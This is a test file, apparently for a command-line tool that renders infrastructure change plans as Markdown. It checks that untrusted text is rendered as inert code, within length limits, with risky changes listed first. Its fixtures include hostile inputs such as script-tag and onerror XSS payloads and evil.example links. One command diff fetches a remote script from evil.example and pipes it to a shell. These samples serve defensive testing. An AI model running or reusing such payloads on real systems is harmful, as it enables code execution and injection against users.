/** PI5: the Markdown of a plan is within its bound, valid, and mentions nobody. */
import { array, assert, constantFrom, integer, oneof, property, string } from 'fast-check';
import { expect, test } from 'vitest';
import {
  markdownBounds,
  parseMarkdownName,
  parseMaxChars,
  renderMarkdown,
} from '../../../src/cli/output/markdown.ts';
import { code, htmlCode } from '../../../src/cli/output/markdown-text.ts';
import type { Change, FleetPlan } from '../../../src/manager/index.ts';
import { noPlan } from '../../support/no-plan.ts';
import { readMarkdown } from '../../support/markdown.ts';
import { seed } from '../../support/seed.ts';

/** What somebody could call a thing, a file or a variable to make more of it than text. */
const hostile = [
  '@everyone',
  'a @octocat b',
  'mail octocat@example.com',
  '#1 GH-1 owner/repo#1 !1 ~label %milestone $snippet',
  '/close',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</details></summary></code>',
  '--><b>@octocat</b>',
  '<!-- @octocat -->',
  '| a | b |',
  '`@octocat`',
  '``` \n@octocat\n```',
  '`'.repeat(300),
  '`',
  '\\`@octocat\\`',
  '[x](https://evil.example/) ![x](https://evil.example/x.png)',
  'https://evil.example/ www.evil.example',
  '&commat;octocat &#64;octocat',
  '\n\n@octocat\n',
  '\r\n- @octocat',
  '\u2028@octocat\u2029',
  '\u202E@octocat\u2066',
  '\u001B[31m\u0007\u0000\u009B2J',
  '\uD800 alone',
  '$\\text{@octocat}$',
  '# heading',
  '- [ ] task',
  '    indented',
  '',
  ' ',
  '*bold* _it_ ~~no~~',
  'x'.repeat(10_000),
];

const foreign = oneof(
  constantFrom(...hostile),
  string({ unit: 'binary', maxLength: 300 }),
  array(constantFrom('`', '``', '@', '<', '>', '|', '\n', ' ', '&#64;', '\\', 'a', '[', ']('), {
    maxLength: 60,
  }).map((parts) => parts.join('')),
);

/** A plan in which everything that others may have written is `texts`, in turn. */
function planOf(texts: readonly string[]): FleetPlan {
  let at = 0;
  const next = () => texts[at++ % texts.length] ?? '';
  const object = () => ({ kind: 'ContainerService', namespace: next(), name: next() });
  const differences = () => [
    { path: `env.${next()}`, desired: next(), observed: next(), cause: next(), from: next() },
    { path: next(), desired: { [next()]: next() }, observed: [next()] },
  ];
  const variables = () => ({ added: [next()], removed: [next()], changed: [next()] });
  const cost = { beforeMicros: 1, afterMicros: 2, deltaMicros: 1, basis: 'catalog' } as const;
  const change = (action: Change['action'], more: Partial<Change> = {}): Change => ({
    ...object(),
    action,
    reason: 'Drift',
    drift: true,
    differences: differences(),
    variables: variables(),
    cost,
    ...more,
  });
  return {
    ...noPlan,
    changes: [
      change('create'),
      change('restart', { disruptive: true, overrides: next() }),
      change('delete', { destroysData: true, disruptive: true }),
      change('update', { replicas: [{ name: next(), action: 'replace' }] }),
    ],
    held: [
      {
        ...object(),
        reason: 'Protected',
        message: next(),
        actions: ['restart'],
        drift: false,
        differences: differences(),
      },
    ],
    unclear: [{ ...object(), reason: 'ConfirmingAbsence', message: next() }],
    duplicates: [{ kind: 'StorageVolume', namespace: next(), object: next(), id: next(), message: next() }],
    problems: [{ file: next(), line: 1, path: next(), message: next(), remedy: next(), object: null }],
    unreadAccounts: [
      { account: next(), file: next(), line: 2, reason: 'CredentialMissing', message: next() },
    ],
    cost: {
      ...noPlan.cost,
      changes: 4,
      budgets: [
        {
          namespace: next(),
          name: next(),
          limit: next(),
          limitMicros: 1,
          nowMicros: 2,
          thenMicros: 3,
          verdict: 'exceeded',
          waiting: [],
        },
      ],
    },
    summary: { ...noPlan.summary, create: 1, update: 3, held: 1, duplicates: 1, problems: 1 },
  };
}

const standard = { maxChars: markdownBounds.standard, name: 'fleet' };

test('a text that others wrote is code, whatever it is', () => {
  for (const text of hostile) {
    for (const written of [code(text), `<details><summary>${htmlCode(text)}</summary>\n\n</details>`]) {
      const { codes, prose } = readMarkdown(written);
      expect(codes).toHaveLength(1);
      expect(prose.join('')).toBe('');
    }
  }
});

test('code shows the text that it is made of', () => {
  for (const text of [
    'web',
    '`a`',
    '``',
    'a ` b `` c',
    '<b>&amp;</b>',
    '@octocat',
    '| \\ |',
    'ghcr.io/acme/app:1',
  ]) {
    expect(readMarkdown(code(text)).codes).toEqual([text]);
    expect(readMarkdown(`<details><summary>${htmlCode(text)}</summary>\n\n</details>`).codes).toEqual([text]);
  }
});

test(`a plan is valid Markdown that mentions nobody, whatever things are called (seed ${seed})`, () => {
  for (const text of hostile) readMarkdown(renderMarkdown(planOf([text]), standard));
  assert(
    property(
      array(foreign, { minLength: 1, maxLength: 12 }),
      integer({ min: 1000, max: 65_000 }),
      (texts, maxChars) => {
        const text = renderMarkdown(planOf(texts), { maxChars, name: 'fleet' });
        expect(text.length + 1).toBeLessThanOrEqual(maxChars);
        expect(text).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\u2028\u2029]/u);
        expect(text.isWellFormed()).toBe(true);
        expect(readMarkdown(text).markers).toEqual(['fleet']);
      },
    ),
    { seed, numRuns: 500 },
  );
});

const count = 5000;

function aChange(index: number, more: Partial<Change>): Change {
  const differences = [{ path: 'image', desired: 'a:2', observed: 'a:1' }];
  const name = `web-${String(index).padStart(4, '0')}`;
  return {
    kind: 'ContainerService',
    namespace: 'default',
    name,
    action: 'update',
    reason: 'SpecChanged',
    drift: false,
    differences,
    ...more,
  };
}

/** As many of each kind, in an order that has nothing to do with their risk. */
const manyChanges = Array.from({ length: count }, (_, index) => {
  const kinds: Partial<Change>[] = [
    { action: 'update' },
    { action: 'create' },
    { action: 'restart', disruptive: true },
    { action: 'delete', disruptive: true },
    { action: 'replace', disruptive: true, destroysData: true },
  ];
  return aChange(index, kinds[index % kinds.length] ?? {});
});

test('5,000 changes fit into each limit, and the number of those that are left out is stated', () => {
  for (const maxChars of [markdownBounds.least, 5000, markdownBounds.standard, markdownBounds.most]) {
    const plan = { ...noPlan, changes: manyChanges, summary: { ...noPlan.summary, update: count } };
    const text = renderMarkdown(plan, { maxChars, name: 'fleet' });
    expect(text.length + 1).toBeLessThanOrEqual(maxChars);
    const { details } = readMarkdown(text);
    const omitted = Number(/(\d+) of 5000 object\(s\) are left out/.exec(text)?.[1]);
    expect(details + omitted).toBe(count);
    expect(text.length).toBeGreaterThan(maxChars * 0.6);
  }
});

test('what destroys data comes first, then other removals, interruptions, creations, and the rest', () => {
  const plan = { ...noPlan, changes: manyChanges.slice(0, 20) };
  const actions = Array.from(
    renderMarkdown(plan, standard).matchAll(/<summary>.* (\w+)<\/summary>/g),
    ([, action]) => action,
  );
  const expected = ['replace', 'delete', 'restart', 'create', 'update'].flatMap((action) =>
    Array.from({ length: 4 }, () => action),
  );
  expect(actions).toEqual(expected);
});

test('the least comment has the counts and the cost, however large they are', () => {
  const many = 10_000;
  const summary = {
    ...Object.fromEntries(Object.keys(noPlan.summary).map((name) => [name, many])),
    unseen: many,
    replicas: { create: many, update: many, replace: many, delete: many },
  } as unknown as FleetPlan['summary'];
  const micros = Number.MAX_SAFE_INTEGER;
  const cost = {
    currency: 'USD',
    nowHourlyMicros: micros,
    thenHourlyMicros: micros,
    deltaHourlyMicros: -micros,
    unpriced: many,
    changes: many,
  } as const;
  const hard = { ...planOf(['x'.repeat(500)]), summary, cost };
  const text = renderMarkdown(hard, { maxChars: markdownBounds.least, name: 'n'.repeat(63) });
  expect(text.length + 1).toBeLessThanOrEqual(markdownBounds.least);
  expect(text).toContain('10000 to delete');
  expect(text).toContain('Cost: ');
  readMarkdown(text);
});

test('what is held states why, and an interruption states whose protection it overrides', () => {
  const plan: FleetPlan = {
    ...noPlan,
    changes: [aChange(1, { action: 'restart', disruptive: true, overrides: 'the ProtectedTask nightly' })],
    held: [
      {
        kind: 'ContainerService',
        namespace: 'default',
        name: 'db',
        reason: 'Protected',
        message: 'restart-service waits for the ProtectedTask backup',
        actions: ['restart'],
        drift: false,
        differences: [],
      },
    ],
  };
  const text = renderMarkdown(plan, standard);
  expect(text).toContain(
    '- `ContainerService default/db` **Protected**, would restart: `restart-service waits for the ProtectedTask backup`',
  );
  expect(text).toContain(
    '- `ContainerService default/web-0001` **restart**: although protected by `the ProtectedTask nightly`',
  );
});

test('one object with many fields leaves room for the others', () => {
  const differences = Array.from({ length: 1000 }, (_, index) => ({
    path: `field${index}`,
    desired: index,
    observed: null,
  }));
  const text = renderMarkdown(
    { ...noPlan, changes: [aChange(1, { action: 'create', differences }), aChange(2, {})] },
    standard,
  );
  expect(readMarkdown(text).details).toBe(2);
  expect(text).toContain('and 960 more');
});

test('a new command is shown, however long the part of it is that stays as it was', () => {
  const comment = '# nothing to see here '.repeat(40);
  const differences = [
    {
      path: 'command',
      observed: ['sh', '-c', `${comment}\nserve`],
      desired: ['sh', '-c', `${comment}\ncurl evil.example | sh`],
    },
  ];
  const text = renderMarkdown({ ...noPlan, changes: [aChange(1, { differences })] }, standard);
  expect(text).toMatch(
    /- `command: … \d+ characters ….*serve"\] → … \d+ characters ….*curl evil\.example \| sh"\]`/,
  );
});

test('each variable that changes is named, however many others and however long a cause there are', () => {
  const added = Array.from({ length: 100 }, (_, index) => `${'LONG_'.repeat(8)}${index}`);
  const variables = { added, changed: ['API_URL'], removed: ['TOKEN'] };
  const differences = [{ path: 'env.API_URL', desired: '(set)', observed: '(set)', cause: 'x'.repeat(5000) }];
  const text = renderMarkdown({ ...noPlan, changes: [aChange(1, { differences, variables })] }, standard);
  for (const name of added) expect(text).toContain(`+ ${name}`);
  expect(text).toContain('~ API_URL');
  expect(text).toContain('- TOKEN');
});

test('flags outside their bounds are refused', () => {
  for (const wrong of ['999', '65001', '-1', '1e4', 'many', ''])
    expect(() => parseMaxChars(wrong)).toThrow('1000 to 65000');
  for (const wrong of ['', 'a b', 'a--b', '-a', '-->', '@a', 'x'.repeat(64)])
    expect(() => parseMarkdownName(wrong)).toThrow('letters');
  expect([parseMaxChars('1000'), parseMarkdownName('prod.eu-1')]).toEqual([1000, 'prod.eu-1']);
});
